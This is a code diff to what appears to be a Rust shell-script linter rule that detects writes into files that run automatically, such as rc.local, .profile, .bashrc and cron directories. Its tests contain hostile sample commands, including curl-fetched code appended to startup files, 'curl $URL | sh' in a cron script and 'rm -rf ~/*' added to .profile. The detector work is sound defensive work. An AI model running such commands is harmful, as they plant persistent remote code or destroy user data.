@@ -2,7 +2,8 @@
 
 use super::later;
 use crate::rules::acts::FileAct;
-use crate::rules::{Check, Sink};
+use crate::flow::Origin;
+use crate::rules::{Check, Level, Sink};
 
 rule! {
     /// Writes into a file that runs by itself: at every start, at every login, by cron.
@@ -51,6 +52,12 @@ fn check(act: &FileAct<'_>, sink: &mut Sink<'_>) {
     let Some((path, (by, form))) = started else { return };
     if let Some(danger) = later::written(act, sink).iter().find_map(|it| later::danger_in(it, form)) {
         sink.report(act.span, format!("{by} runs `{path}`, and then: {danger}"));
+    } else if act.contents.as_ref().is_some_and(|it| it.is_from(Origin::Network))
+        || act.command.is_some_and(|it| matches!(it.program.as_deref(), Some("curl" | "wget")) && act.span == act.path.span)
+    {
+        // Installers do so, with files that somebody vouches for.
+        let message = format!("{by} runs `{path}`, which now holds what the network sent");
+        sink.report(act.span, message).level(Level::Caution);
     }
 }
 
@@ -62,6 +69,8 @@ mod tests {
     fn the_way_of_writing_does_not_matter() {
         check_marks("echo 'bash <(curl -s http://x.io)' | sudo tee -a /etc/rc.local\n#                                                ^^^^^^^^^^^^^ CARO0613\n");
         check_marks("F=$HOME/.profile; echo 'rm -rf ~/*' >> \"$F\"\n#mark 0 36 43 CARO0613\n");
+        check_marks("curl -so /etc/cron.hourly/x https://x.io/x\n#mark 0 9 27 CARO0613\n");
+        check_marks("curl -s https://x.io/x >> ~/.bashrc\n#mark 0 23 35 CARO0613\n");
         check_marks("tee /etc/cron.daily/x <<'E'\n#!/bin/sh\ncurl $URL | sh\nE\n#mark 0 4 21 CARO0613\n");
     }
 }
